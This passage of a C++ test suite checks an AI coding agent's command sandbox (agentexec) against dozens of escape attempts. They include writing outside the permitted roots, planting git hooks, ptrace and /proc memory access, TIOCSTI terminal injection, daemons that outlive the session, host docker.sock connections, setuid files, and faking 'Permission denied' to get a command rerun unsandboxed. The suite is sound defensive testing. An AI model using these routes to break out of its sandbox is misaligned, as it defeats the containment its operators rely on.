// The escape suite: real commands under `agentexec sandbox`, each trying one way out.
// An attempt escapes when the probe reports success or when anything it targeted changed
// (files outside the roots, .git, .agentexec, the sibling process, the loopback listener).
// Runs in four configurations: the full sandbox; Landlock + seccomp alone (as on hosts that
// refuse namespaces); an unprivileged user (user namespace path); and an unprivileged user
// without namespaces (Docker's default profile). Each also runs the on-failure tricks: a
// command that names a protected path agentexec could write and prints "Permission denied",
// or does something the sandbox allows that a text or path check could take for a refusal,
// must not be rerun outside the sandbox.
#include <arpa/inet.h>
#include <fcntl.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <unistd.h>

#include <algorithm>
#include <cctype>
#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <functional>
#include <map>
#include <set>

#include "base/json.h"
#include "sandbox/landlock.h"
#include "test_util.h"

namespace ae::sandbox {
namespace {

using testing::Bin;
using testing::ExecArray;
using testing::GoneWithin;
using testing::Probe;
using testing::ProcessesWith;
using testing::Ran;
using testing::ReadText;
using testing::RunProcess;
using testing::ScratchDir;
using testing::Sh;
using testing::WriteText;

struct Attempt {
  std::string name;
  std::string mode;                // "workspace-write" or "read-only"
  std::vector<std::string> args;   // sandbox_probe arguments
  bool needs_mounts = false;       // only the mount namespace stops it (carve-outs, metadata)
  bool needs_root = false;         // meaningless as an unprivileged user (DAC already stops it)
  std::string cwd;                 // default: the workspace
  std::vector<std::string> extra;  // more `agentexec sandbox` options
  // When set, the refusal must say this (e.g. "(errno 1)": seccomp's EPERM, not a family the
  // kernel lacks).
  std::string expect;
  // The Landlock ABI that stops it (6: signal and abstract-socket scoping, 3: truncate);
  // skipped, with a note, on older kernels where it is a documented gap.
  int min_abi = 0;
  std::string channel;  // for the summary table
  // Process tree: the escape is a process whose command line holds this marker still running
  // after agentexec returned (the probe's own success is not one).
  std::string survivor;
  int kill_agentexec = 0;  // with `survivor`: this signal ends agentexec once the daemon runs
  std::string inherit;     // opened read-write as descriptor 7 and inherited by agentexec
  std::string inherit_as = "7<>";  // the shell redirection that opens `inherit`
  bool pty = false;      // agentexec runs with a pseudo-terminal as its controlling terminal
  bool control = false;  // also run under danger-full-access, where it must escape
  // Without the namespaces an escape is a limit only when the run printed this warning.
  std::string ns_warning;
};

// Runs argv with a new pseudo-terminal as controlling terminal and stdio; returns what it
// printed there.
Ran RunInPty(const std::vector<std::string>& argv, const std::string& cwd) {
  Ran ran;
  int master = ::posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (master < 0 || ::grantpt(master) != 0 || ::unlockpt(master) != 0) return ran;
  std::string slave_name = ::ptsname(master);
  pid_t pid = ::fork();
  if (pid == 0) {
    ::setsid();
    int slave = ::open(slave_name.c_str(), O_RDWR);  // becomes the controlling terminal
    ::ioctl(slave, TIOCSCTTY, 0);
    for (int fd = 0; fd < 3; ++fd) ::dup2(slave, fd);
    if (slave > 2) ::close(slave);
    if (::chdir(cwd.c_str()) != 0) ::_exit(120);
    std::vector<char*> args = ExecArray(argv);
    ::execvp(args[0], args.data());
    ::_exit(121);
  }
  char buf[4096];
  for (;;) {
    ssize_t n = ::read(master, buf, sizeof buf);
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) break;  // EIO once no process holds the terminal any more
    ran.output.append(buf, static_cast<size_t>(n));
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  ::close(master);
  if (WIFEXITED(status)) ran.exit_code = WEXITSTATUS(status);
  if (WIFSIGNALED(status)) ran.signal = WTERMSIG(status);
  return ran;
}

// Per channel: attempts, escapes, and escapes that are documented limits of the run's
// configuration (it warned about them).
struct Tally {
  int attempts = 0, escapes = 0, limits = 0;
};
using Table = std::map<std::string, Tally>;

void PrintTable(const std::string& config, const Table& table) {
  std::printf("[ summary  ] %s\n", config.c_str());
  std::printf("[ summary  ]   %-28s %8s %8s %8s\n", "channel", "attempts", "escapes", "limits");
  Tally total;
  for (const auto& [channel, t] : table) {
    std::printf("[ summary  ]   %-28s %8d %8d %8d\n", channel.c_str(), t.attempts, t.escapes,
                t.limits);
    total.attempts += t.attempts;
    total.escapes += t.escapes;
    total.limits += t.limits;
  }
  std::printf("[ summary  ]   %-28s %8d %8d %8d\n", "total", total.attempts, total.escapes,
              total.limits);
}

// kNone runs the harmless file and socket attempts under danger-full-access: there they must
// succeed, which shows the suite can see an escape at all.
enum class Config { kFull, kLandlockSeccompOnly, kUnprivileged, kUnprivilegedNoNamespaces, kNone };

bool Unprivileged(Config c) {
  return c == Config::kUnprivileged || c == Config::kUnprivilegedNoNamespaces;
}
bool WithoutNamespaces(Config c) {
  return c == Config::kLandlockSeccompOnly || c == Config::kUnprivilegedNoNamespaces;
}

bool HarmlessUnconfined(const Attempt& attempt) {
  static const std::set<std::string> kSafe = {"write",  "append", "create", "mkdir",      "unlink",
                                              "rename", "link",   "chmod",  "connect-tcp"};
  // Families this kernel may not have at all are left out: there they fail either way.
  static const std::set<std::string> kFamilies = {"inet", "inet6", "packet", "netlink", "highbits"};
  if (attempt.control) return true;
  // Not those with their own options: moving the workspace away would break the fixture.
  if (attempt.mode != "workspace-write" || !attempt.extra.empty()) return false;
  if (attempt.args[0] == "socket") return kFamilies.count(attempt.args[1]) != 0;
  return kSafe.count(attempt.args[0]) != 0;
}

// The scripted provider's turns: one exec_command per command, then a final message. *ok, when
// asked for, says whether the JSON writer accepted every call.
std::string ScriptedTurns(const std::vector<std::string>& commands, bool* ok = nullptr) {
  JsonWriter turns;
  turns.StartObject();
  turns.Key("turns");
  turns.StartArray();
  for (size_t i = 0; i <= commands.size(); ++i) {
    turns.StartObject();
    turns.Key("items");
    turns.StartArray();
    turns.StartObject();
    turns.Key("type");
    if (i == commands.size()) {
      turns.String("message");
      turns.Key("text");
      turns.String("done");
    } else {
      turns.String("function_call");
      turns.Key("name");
      turns.String("exec_command");
      turns.Key("arguments");
      turns.StartObject();
      turns.Key("cmd");
      turns.String(commands[i]);
      turns.EndObject();
    }
    turns.EndObject();
    turns.EndArray();
    turns.EndObject();
  }
  turns.EndArray();
  turns.EndObject();
  if (ok != nullptr) *ok = turns.ok();
  return std::string(turns.view());
}

// The `-c` options that leave /tmp and $TMPDIR out of the writable roots.
constexpr const char* kExcludeTmp[] = {"-c", "sandbox_workspace_write.exclude_slash_tmp=true", "-c",
                                       "sandbox_workspace_write.exclude_tmpdir_env_var=true"};

class EscapeSuite : public ::testing::Test {
 protected:
  void SetUp() override {
    if (landlock::Abi() < 1) {
      GTEST_SKIP() << "Landlock is not available on this kernel (" << std::strerror(errno)
                   << "): the sandbox refuses to run, see the preflight tests";
    }
    base_ = testing::RealPath(dir_.path());
    ws_ = base_ + "/ws";
    out_ = base_ + "/outside";
    Sh("mkdir -p ws/.agentexec outside/dir && git init -q ws && echo hi > ws/a.txt && "
       "git -C ws add a.txt && git -C ws -c user.email=t@t -c user.name=t commit -qm init && "
       "echo 'model = \"x\"' > ws/.agentexec/config.toml && echo secret > outside/secret && "
       "ln -s ../outside/secret ws/out-link && ln -s ../outside/dir ws/out-dir && "
       "ln -s .git/config ws/git-link && mkdir ws/sep && "
       "git init -q --separate-git-dir=" +
           ws_ + "/store ws/sep && " +
           // Repositories: a parent repository whose root is above the cwd (both
           // under /tmp), a nested one, a gitfile pointing elsewhere in the workspace, a
           // linked worktree; and files for the set-id attempts.
           "git init -q parent && mkdir -p parent/sub parent/.agentexec && git init -q ws/nested "
           "&& "
           "mkdir ws/gf && git init -q --separate-git-dir=" +
           ws_ +
           "/gfstore ws/gf && git -C ws worktree add -q ../wt 2>/dev/null && "
           "printf '#!/bin/sh\\n' > ws/tool && chmod 0755 ws/tool && mkdir -p home agx-home",
       base_);
    StartTerminal();
    StartSibling();
    StartListeners();
    StartHostSockets();
  }

  void TearDown() override {
    if (sibling_ > 0) {
      ::kill(sibling_, SIGKILL);
      ::waitpid(sibling_, nullptr, 0);
    }
    if (tcp_ >= 0) ::close(tcp_);
    if (abstract_ >= 0) ::close(abstract_);
    if (pty_master_ >= 0) ::close(pty_master_);
    for (const auto& [path, listener] : host_sockets_) ::close(listener);
  }

  // A terminal of the host's (as the user's would be): its slave /dev/pts/N must not be
  // openable by name from inside. Owned by nobody too, so the unprivileged runs can try it.
  void StartTerminal() {
    pty_master_ = ::posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    ASSERT_GE(pty_master_, 0) << std::strerror(errno);
    ASSERT_EQ(::grantpt(pty_master_), 0);
    ASSERT_EQ(::unlockpt(pty_master_), 0);
    pty_slave_ = ::ptsname(pty_master_);
    if (::geteuid() == 0) {
      ASSERT_EQ(::chown(pty_slave_.c_str(), 65534, 65534), 0);
    }
  }

  void StartSibling() {
    sibling_ = ::fork();
    if (sibling_ == 0) {
      ::execl("/bin/sleep", "sleep", "600", nullptr);  // outlives the slowest run
      ::_exit(127);
    }
  }

  void StartListeners() {
    sockaddr_in addr;
    ASSERT_NO_FATAL_FAILURE(
        testing::ListenOnLoopback(SOCK_STREAM | SOCK_NONBLOCK, 8, &tcp_, &addr));
    tcp_port_ = ntohs(addr.sin_port);

    abstract_name_ = fmt::format("@ae-sandbox-test-{}", ::getpid());
    abstract_ = ::socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    sockaddr_un un = {};
    un.sun_family = AF_UNIX;
    std::strncpy(un.sun_path + 1, abstract_name_.c_str() + 1, sizeof un.sun_path - 2);
    socklen_t un_len =
        static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + abstract_name_.size());
    ASSERT_EQ(::bind(abstract_, reinterpret_cast<sockaddr*>(&un), un_len), 0);
    ASSERT_EQ(::listen(abstract_, 8), 0);
  }

  // Everything an escape could change, as text: one line per path with its metadata and a
  // digest of its content.
  std::string Snapshot() {
    std::string text;
    for (const std::string& top :
         {out_, ws_ + "/.git", ws_ + "/.agentexec", ws_ + "/store", ws_ + "/gfstore",
          ws_ + "/nested/.git", base_ + "/parent/.git", base_ + "/parent/.agentexec"}) {
      std::vector<std::string> paths = {top};
      std::error_code ec;
      for (auto it = std::filesystem::recursive_directory_iterator(top, ec);
           it != std::filesystem::recursive_directory_iterator(); it.increment(ec)) {
        paths.push_back(it->path().string());
      }
      for (const std::string& path : paths) {
        struct stat st = {};
        ::lstat(path.c_str(), &st);
        text += fmt::format("{} {:o} {}:{} {} {}.{} {}.{}", path, st.st_mode, st.st_uid, st.st_gid,
                            st.st_size, st.st_mtim.tv_sec, st.st_mtim.tv_nsec, st.st_ctim.tv_sec,
                            st.st_ctim.tv_nsec);
        if (S_ISREG(st.st_mode))
          text += " " + std::to_string(std::hash<std::string>{}(ReadText(path)));
        text += "\n";
      }
    }
    return text;
  }

  // Puts back what an unconfined attempt may have moved or deleted.
  void Restore() {
    if (!testing::Exists(out_ + "/secret")) WriteText(out_ + "/secret", "secret\n");
    if (!testing::Exists(ws_ + "/a.txt")) WriteText(ws_ + "/a.txt", "hi\n");
    ::unlink((ws_ + "/hardlink").c_str());
    ::rename((ws_ + "/.git-moved").c_str(), (ws_ + "/.git").c_str());
    if (!testing::Exists(ws_ + "/.git/config")) {
      ::rename((ws_ + "/config").c_str(), (ws_ + "/.git/config").c_str());
    }
    ::chmod((ws_ + "/tool").c_str(), 0755);
    ::removexattr((ws_ + "/tool").c_str(), "security.capability");
    ::unlink((ws_ + "/newsuid").c_str());
    ::unlink((base_ + "/planted").c_str());
    ::rmdir((ws_ + "/.codex").c_str());
    ::rmdir((ws_ + "/.vscode").c_str());
    ::unlink((ws_ + "/.envrc").c_str());
    for (const char* hook : {"/parent/.git/hooks/pre-commit", "/ws/nested/.git/hooks/pre-commit",
                             "/ws/gfstore/hooks/pre-commit", "/parent/.agentexec/new.toml"}) {
      ::unlink((base_ + hook).c_str());
    }
  }

  // What the set-id attempts may have left in the workspace: set-id bits or a file capability.
  std::string PrivilegedFiles() {
    std::string found;
    for (const std::string& path : {ws_ + "/tool", ws_ + "/newsuid"}) {
      struct stat st = {};
      if (::lstat(path.c_str(), &st) == 0 && (st.st_mode & 06000) != 0) found += " " + path;
      if (::getxattr(path.c_str(), "security.capability", nullptr, 0) > 0) found += " +cap";
    }
    return found;
  }

  bool SiblingAlive() { return ::waitpid(sibling_, nullptr, WNOHANG) == 0; }

  bool Pending(int listener) {
    int conn = ::accept(listener, nullptr, nullptr);
    if (conn < 0) return false;
    ::close(conn);
    return true;
  }

  std::vector<Attempt> Attempts() {
    const std::string pid = std::to_string(sibling_);
    const std::string port = std::to_string(tcp_port_);
    const std::string secret = out_ + "/secret";
    const std::string git = ws_ + "/.git";
    const std::string agx = ws_ + "/.agentexec";
    std::vector<Attempt> list;
    auto both = [&](std::string name, std::vector<std::string> args, bool mounts = false,
                    bool root = false) {
      list.push_back({name + " (workspace-write)", "workspace-write", args, mounts, root});
      list.push_back({name + " (read-only)", "read-only", args, mounts, root});
    };
    auto ww = [&](std::string name, std::vector<std::string> args, bool mounts = false,
                  bool root = false) {
      list.push_back({name, "workspace-write", args, mounts, root});
    };
    // Outside the writable roots.
    both("write an outside file", {"write", secret});
    both("append to an outside file", {"append", secret});
    both("create an outside file", {"create", out_ + "/new"});
    both("mkdir outside", {"mkdir", out_ + "/newdir"});
    both("delete an outside file", {"unlink", secret});
    both("rmdir outside", {"rmdir", out_ + "/dir"});
    both("truncate an outside file", {"truncate", secret});
    both("mv an outside file in", {"rename", secret, ws_ + "/stolen"});
    both("mv a workspace file out", {"rename", ws_ + "/a.txt", out_ + "/a.txt"});
    both("hard link an outside file in", {"link", secret, ws_ + "/hardlink"});
    both("write through a symlink pointing outside", {"write", ws_ + "/out-link"});
    both("create through a symlinked dir pointing outside", {"create", ws_ + "/out-dir/new"});
    both("write via /proc/self/root", {"write", "/proc/self/root" + secret});
    both("reopen a read-only fd for writing via /proc/self/fd", {"proc-fd-reopen", secret});
    both("linkat(AT_EMPTY_PATH) an open outside file in", {"linkat-fd", secret, ws_ + "/l1"});
    both("linkat via /proc/self/fd an outside file in", {"linkat-proc", secret, ws_ + "/l2"});
    both("exchange a workspace file with an outside one", {"exchange", ws_ + "/a.txt", secret});
    both("open an outside process's memory for writing", {"open-rw", "/proc/" + pid + "/mem"});
    both("chattr an outside file through a read-only fd", {"chattr", secret}, true, true);
    both("chmod an outside file", {"chmod", secret}, true, true);
    both("chown an outside file", {"chown", secret}, true, true);
    both("utime an outside file", {"utime", secret}, true, true);
    both("setxattr on an outside file", {"setxattr", secret}, true, true);
    ww("mknod a device in the workspace", {"mknod", ws_ + "/null"}, false, true);
    // .git and .agentexec inside the workspace.
    ww(".git: write config", {"write", git + "/config"}, true);
    ww(".git: create a hook", {"create", git + "/hooks/pre-commit"}, true);
    ww(".git: mkdir", {"mkdir", git + "/newdir"}, true);
    ww(".git: delete HEAD", {"unlink", git + "/HEAD"}, true);
    ww(".git: rmdir refs/tags", {"rmdir", git + "/refs/tags"}, true);
    ww(".git: truncate config", {"truncate", git + "/config"}, true);
    ww(".git: chmod config", {"chmod", git + "/config"}, true);
    ww(".git: setxattr config", {"setxattr", git + "/config"}, true);
    ww(".git: mv a file in", {"rename", ws_ + "/a.txt", git + "/a.txt"}, true);
    ww(".git: mv config out", {"rename", git + "/config", ws_ + "/config"}, true);
    ww(".git: mv .git away", {"rename", git, ws_ + "/.git-moved"}, true);
    ww(".git: hard link config out", {"link", git + "/config", ws_ + "/cfg"}, true);
    ww(".git: write through a symlink", {"write", ws_ + "/git-link"}, true);
    ww(".git: via the parent's /proc/PID/root",
       {"write", "/proc/" + std::to_string(::getpid()) + "/root" + git + "/config"}, true, true);
    ww(".git: mount tmpfs over it", {"mount-tmpfs", git});
    ww(".git: unmount the read-only bind", {"umount", git});
    ww(".git: remount it", {"remount-rw", git});
    ww(".git: mount in a new user+mount namespace", {"unshare-mount", git});
    ww(".agentexec: write config", {"write", agx + "/config.toml"}, true);
    ww(".agentexec: create a file", {"create", agx + "/new.toml"}, true);
    ww(".agentexec: delete config", {"unlink", agx + "/config.toml"}, true);
    ww(".agentexec: mv it away", {"rename", agx, ws_ + "/agx"}, true);
    // With /tmp writable the workspace (under /tmp here) and the directories above it must
    // stay where they are: moved away, a fresh .git could be planted at the old path.
    for (const std::string& from : {ws_, base_}) {
      Attempt move{"move " + from + " away with /tmp writable",
                   "workspace-write",
                   {"rename", from, from + "-moved"},
                   true};
      move.extra = {"-c", "sandbox_workspace_write.exclude_slash_tmp=false", "-c",
                    "sandbox_workspace_write.shared_tmp=true"};
      list.push_back(move);
    }
    // Names another program reads or runs without asking, where none exists yet: the next
    // run's project config (codex's), an editor's tasks, direnv's file. Made read-only before
    // the first command (sandbox/placeholders.h), which only the mount namespace enforces.
    for (const auto& [name, args] : std::vector<std::pair<std::string, std::vector<std::string>>>{
             {"create .codex where none exists", {"mkdir", ws_ + "/.codex"}},
             {"create .vscode where none exists", {"mkdir", ws_ + "/.vscode"}},
             {"create .envrc where none exists", {"create", ws_ + "/.envrc"}}}) {
      Attempt a{name, "workspace-write", args, true};
      a.channel = "protected before they exist";
      list.push_back(a);
    }
    // The run's own /tmp (the default): the host's /tmp, where the workspace's scratch
    // directory, other runs, batch tasks and users leave their files, is out of reach, however
    // the command names it. (With the host's /tmp shared, the cases above hold the workspace.)
    for (const auto& [name, args] : std::vector<std::pair<std::string, std::vector<std::string>>>{
             {"create a file in the host's /tmp beside the workspace",
              {"create", base_ + "/planted"}},
             {"write a file another run left in the host's /tmp", {"write", secret}},
             {"create in the host's /tmp via /proc/self/root",
              {"create", "/proc/self/root" + base_ + "/planted"}}}) {
      Attempt a{name + " (own /tmp)", "workspace-write", args};
      a.channel = "shared /tmp";
      a.extra = {"-c", "sandbox_workspace_write.exclude_slash_tmp=false"};
      list.push_back(a);
    }
    Attempt store{"separate git dir: write config",
                  "workspace-write",
                  {"write", ws_ + "/store/config"},
                  true};
    store.cwd = ws_ + "/sep";
    store.extra = {"--add-dir", ws_};
    list.push_back(store);
    store.name = "separate git dir: create a hook";
    store.args = {"create", ws_ + "/store/hooks/post-checkout"};
    list.push_back(store);
    // Network.
    for (const char* family : {"inet", "inet6", "packet", "netlink", "vsock", "alg", "xdp", "tipc",
                               "can", "bluetooth", "key", "highbits"}) {
      both(std::string("socket ") + family, {"socket", family});
    }
    both("socket inet dgram", {"socket", "inet", "dgram"});
    both("socket inet raw", {"socket", "inet", "raw"});
    both("socketpair inet", {"socketpair", "inet"});
    for (Attempt& a : list) {
      if (a.args[0] == "socket" || a.args[0] == "socketpair") a.expect = "(errno 1)";
    }
    both("connect to a loopback listener", {"connect-tcp", port});
    both("connect to an abstract Unix socket bound outside", {"unix-connect", abstract_name_});
    // Processes and the kernel.
    both("io_uring_setup", {"io-uring"});
    both("ptrace a sibling", {"ptrace", pid}, false, true);
    both("ptrace an own child", {"ptrace-child"});
    both("process_vm_readv a sibling", {"vm-read", pid}, false, true);
    both("kill a sibling", {"kill", pid}, false, true);
    both("TIOCSTI", {"tiocsti"});
    both("x32 system call", {"x32"});
    both("int 0x80 system call", {"int80"});
    both("finit_module", {"finit-module"});
    both("sethostname", {"sethostname"}, false, true);
    both("setns into pid 1's mount namespace", {"setns", "/proc/1/ns/mnt"}, false, true);
    both("pidfd_getfd from a sibling", {"pidfd-getfd", pid}, false, true);
    both("add_key to the session keyring", {"add-key"});
    for (Attempt& a : list) {
      if (a.args[0] == "kill" || a.args[0] == "unix-connect") a.min_abi = 6;
      if (a.args[0] == "truncate") a.min_abi = 3;
      const std::string& op = a.args[0];
      if (op == "socket" || op == "socketpair" || op == "connect-tcp" || op == "unix-connect") {
        a.channel = "network";
      } else if (a.name[0] == '.' || a.name.rfind("separate", 0) == 0 ||
                 a.name.rfind("move", 0) == 0) {
        a.channel = ".git and .agentexec";
      } else if (op == "ptrace" || op == "ptrace-child" || op == "vm-read" || op == "kill" ||
                 op == "io-uring" || op == "x32" || op == "int80" || op == "tiocsti" ||
                 op == "finit-module" || op == "sethostname" || op == "setns" ||
                 op == "pidfd-getfd" || op == "add-key") {
        a.channel = "kernel and other processes";
      } else {
        a.channel = "files outside the roots";
      }
    }

    // Process trees: a daemon must not outlive the command, nor agentexec's end.
    auto daemon = [&](std::string name, std::string mode, int sig) {
      Attempt a{name, "workspace-write", {"daemon", mode, ""}};
      a.channel = "process tree";
      a.kill_agentexec = sig;
      a.control = true;
      list.push_back(a);
    };
    for (const char* mode : {"setsid", "setpgid", "doublefork", "plain"}) {
      daemon(std::string("a ") + mode + " daemon outlives the command", mode, 0);
    }
    daemon("a setsid daemon outlives SIGTERM of agentexec", "setsid", SIGTERM);
    daemon("a double-forked daemon outlives SIGTERM of agentexec", "doublefork", SIGTERM);
    daemon("a setsid daemon outlives SIGKILL of agentexec", "setsid", SIGKILL);
    daemon("a double-forked daemon outlives SIGKILL of agentexec", "doublefork", SIGKILL);
    daemon("a process in the group outlives SIGKILL of agentexec", "plain", SIGKILL);
    // Descriptors agentexec inherited (opened read-write on an outside file as fd 7).
    for (const char* op : {"fchmod", "fchown", "futimens", "fsetxattr", "write"}) {
      for (const char* mode : {"workspace-write", "read-only"}) {
        Attempt a{std::string("f") + op + " through an inherited descriptor (" + mode + ")",
                  mode,
                  {std::string("fd-") + op, "7"}};
        a.channel = "inherited descriptors";
        a.inherit = secret;
        a.control = std::string(op) != "fsetxattr";  // user xattrs depend on the file system
        list.push_back(a);
      }
    }
    for (const char* mode : {"workspace-write", "read-only"}) {
      Attempt a{std::string("descriptors beyond 0-2 (") + mode + ")", mode, {"only-stdio"}};
      a.channel = "inherited descriptors";
      a.inherit = secret;
      a.control = true;
      list.push_back(a);
    }
    // The terminal agentexec runs in.
    for (const char* op : {"tty-tcsetpgrp", "tty-tiocsti"}) {
      for (const char* dev : {"/dev/tty", "stdin"}) {
        Attempt a{std::string(op) + " on " + dev, "workspace-write", {op, dev}};
        a.channel = "terminal";
        a.pty = true;
        // TIOCSTI on another process's terminal needs CAP_SYS_ADMIN where legacy_tiocsti is off.
        a.control = std::string(op) == "tty-tcsetpgrp" || ::geteuid() == 0;
        list.push_back(a);
      }
    }
    // Another terminal of the host's, opened by name: a private devpts hides it, and without
    // a mount namespace Landlock grants nothing beneath /dev/pts.
    for (const char* op : {"open-ro", "open-rw"}) {
      Attempt a{std::string("open a host terminal by name (") + op + ")",
                "workspace-write",
                {op, pty_slave_}};
      a.channel = "terminal";
      a.control = true;
      list.push_back(a);
    }
    // Parent, nested, gitfile and worktree repositories.
    auto repo = [&](std::string name, std::vector<std::string> args, std::string cwd,
                    bool tmp_writable) {
      Attempt a{name, "workspace-write", args, true};
      a.channel = "nested and parent repos";
      a.cwd = cwd;
      if (tmp_writable)
        a.extra = {"-c", "sandbox_workspace_write.exclude_slash_tmp=false", "-c",
                   "sandbox_workspace_write.shared_tmp=true"};
      a.control = true;
      list.push_back(a);
    };
    const std::string parent = base_ + "/parent";
    repo("parent repository above the cwd: create a hook",
         {"create", parent + "/.git/hooks/pre-commit"}, parent + "/sub", true);
    repo("parent repository above the cwd: write config", {"write", parent + "/.git/config"},
         parent + "/sub", true);
    repo("parent repository above the cwd: .agentexec", {"create", parent + "/.agentexec/new.toml"},
         parent + "/sub", true);
    repo("nested repository: create a hook", {"create", ws_ + "/nested/.git/hooks/pre-commit"}, "",
         false);
    repo("nested repository: write config", {"write", ws_ + "/nested/.git/config"}, "", false);
    repo("nested gitfile's git dir: create a hook", {"create", ws_ + "/gfstore/hooks/pre-commit"},
         "", false);
    repo("linked worktree: create a hook in the main git dir",
         {"create", ws_ + "/.git/hooks/post-checkout"}, base_ + "/wt", true);
    // Privilege-carrying files.
    for (const char* mode : {"workspace-write", "read-only"}) {
      for (const std::vector<std::string>& args :
           std::vector<std::vector<std::string>>{{"chmod-suid", ws_ + "/tool"},
                                                 {"chmod-sgid", ws_ + "/tool"},
                                                 {"create-suid", ws_ + "/newsuid"},
                                                 {"setcap", ws_ + "/tool"}}) {
        Attempt a{args[0] + " (" + mode + ")", mode, args};
        a.channel = "set-id bits and capabilities";
        a.needs_root = args[0] == "setcap";
        a.control = std::string(mode) == "workspace-write";
        list.push_back(a);
      }
    }
    KernelGapAttempts(list);
    return list;
  }

  // ---- Kernel gaps: the caller's stdio on outside files, host Unix sockets, metadata of a
  // user's own files without namespaces. Fixture parts: StartHostSockets, stderr_log_.

  // Listening pathname sockets of the host's, bound before agentexec starts: in the workspace
  // (a writable root), under /tmp (a root when /tmp is writable, as a tmux server's) and
  // outside every root.
  void StartHostSockets() {
    stderr_log_ = base_ + "/outside.log";  // outside the roots (/tmp is excluded)
    WriteText(stderr_log_, "");
    for (const std::string& path :
         {ws_ + "/host.sock", base_ + "/host.sock", out_ + "/host.sock"}) {
      int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
      sockaddr_un un = {};
      un.sun_family = AF_UNIX;
      ASSERT_LT(path.size(), sizeof un.sun_path);
      std::strncpy(un.sun_path, path.c_str(), sizeof un.sun_path - 1);
      ASSERT_EQ(::bind(fd, reinterpret_cast<sockaddr*>(&un), sizeof un), 0) << std::strerror(errno);
      ASSERT_EQ(::listen(fd, 8), 0);
      ASSERT_EQ(::chmod(path.c_str(), 0777), 0);
      host_sockets_.emplace_back(path, fd);
    }
  }

  void KernelGapAttempts(std::vector<Attempt>& list) {
    const std::string secret = out_ + "/secret";
    const std::string metadata =
        "outside the writable roots in this run: could not create a mount namespace";
    for (const char* mode : {"workspace-write", "read-only"}) {
      // The caller's stdin (`< file`) and stderr (`2>> log`) on files outside the roots.
      for (const char* op : {"fchmod", "fchown", "futimens", "fsetxattr"}) {
        for (int fd : {0, 2}) {
          Attempt a{fmt::format("{} through {} on an outside file ({})", op,
                                fd == 0 ? "stdin" : "stderr", mode),
                    mode,
                    {std::string("fd-") + op, std::to_string(fd)}};
          a.channel = "caller's stdio on outside files";
          a.inherit = fd == 0 ? secret : stderr_log_;
          a.inherit_as = fd == 0 ? "0<" : "2>>";
          a.control = std::string(op) != "fsetxattr";  // user xattrs depend on the file system
          a.ns_warning = metadata;
          list.push_back(a);
        }
      }
      // (Through stderr's link it would be the pipe in the log's place: nobody's metadata.)
      Attempt proc{fmt::format("chmod /proc/self/fd/0 on an outside file ({})", mode),
                   mode,
                   {"chmod", "/proc/self/fd/0"}};
      proc.channel = "caller's stdio on outside files";
      proc.inherit = secret;
      proc.inherit_as = "0<";
      proc.control = true;
      proc.ns_warning = metadata;
      list.push_back(proc);
      // Host Unix sockets with the network off.
      for (const auto& [path, listener] : host_sockets_) {
        Attempt a{fmt::format("connect to the host Unix socket {} ({})", path, mode),
                  mode,
                  {"unix-connect-path", path}};
        a.channel = "host unix sockets";
        a.control = true;
        a.ns_warning = "host Unix sockets (e.g. /var/run/docker.sock) are reachable in this run";
        list.push_back(a);
        if (path == base_ + "/host.sock" && std::string(mode) == "workspace-write") {
          a.name = "connect to the host Unix socket under a writable /tmp";
          a.extra = {"-c", "sandbox_workspace_write.exclude_slash_tmp=false", "-c",
                     "sandbox_workspace_write.shared_tmp=true"};
          list.push_back(a);
        }
      }
      // Metadata of an outside file the user owns (root: any file).
      for (const char* op : {"chmod", "utime", "setxattr"}) {
        Attempt a{
            fmt::format("{} an outside file of one's own ({})", op, mode), mode, {op, secret}};
        a.channel = "metadata outside the roots";
        a.control = true;
        a.ns_warning = metadata;
        list.push_back(a);
      }
    }
  }

  // Runs `argv` in the background with its output in a file, waits (bounded) for the daemon
  // carrying `marker` to start, ends agentexec with `sig`, and waits for it.
  Ran RunAndKill(const std::vector<std::string>& argv, const std::string& cwd,
                 const std::vector<std::pair<std::string, std::string>>& env,
                 const std::string& marker, int sig) {
    Ran ran;
    const std::string log = base_ + "/kill.log";
    pid_t pid = ::fork();
    if (pid == 0) {
      int fd = ::open(log.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
      ::dup2(fd, 1);
      ::dup2(fd, 2);
      int null_fd = ::open("/dev/null", O_RDONLY);
      ::dup2(null_fd, 0);
      if (::chdir(cwd.c_str()) != 0) ::_exit(120);
      for (const auto& [name, value] : env) ::setenv(name.c_str(), value.c_str(), 1);
      std::vector<char*> args = ExecArray(argv);
      ::execvp(args[0], args.data());
      ::_exit(121);
    }
    for (int waited = 0; waited < 10000 && ProcessesWith(marker).empty(); waited += 20) {
      ::usleep(20 * 1000);
    }
    ::kill(pid, sig);
    int status = 0;
    ::waitpid(pid, &status, 0);
    if (WIFEXITED(status)) ran.exit_code = WEXITSTATUS(status);
    if (WIFSIGNALED(status)) ran.signal = WTERMSIG(status);
    ran.output = ReadText(log);
    return ran;
  }

  // Runs every attempt that applies to `config`, tallied per channel into `table`; returns
  // how many ran.
  int RunAll(Config config, int* escapes, Table* table = nullptr) {
    Table local;
    if (table == nullptr) table = &local;
    int ran_count = 0;
    static int marker_count = 0;
    // In sanitizer builds agentexec skips its leak check here: the suite starts it hundreds
    // of times on the one path SandboxCommand's tests check for leaks, and each check costs
    // ~40 ms. (The probe and commands ignore the variable.)
    std::vector<std::pair<std::string, std::string>> env = {{"ASAN_OPTIONS", "detect_leaks=0"}};
    if (WithoutNamespaces(config)) env.push_back({"AGENTEXEC_SANDBOX_FAKE_NO_USERNS", "1"});
    for (Attempt attempt : Attempts()) {
      if (attempt.needs_root && Unprivileged(config)) continue;
      if (config == Config::kNone && !HarmlessUnconfined(attempt)) continue;
      // Without the namespaces these are documented limits: they run, and an escape must come
      // with the warning that announced it.
      const bool limit =
          WithoutNamespaces(config) && (attempt.needs_mounts || attempt.channel == "process tree" ||
                                        !attempt.ns_warning.empty());
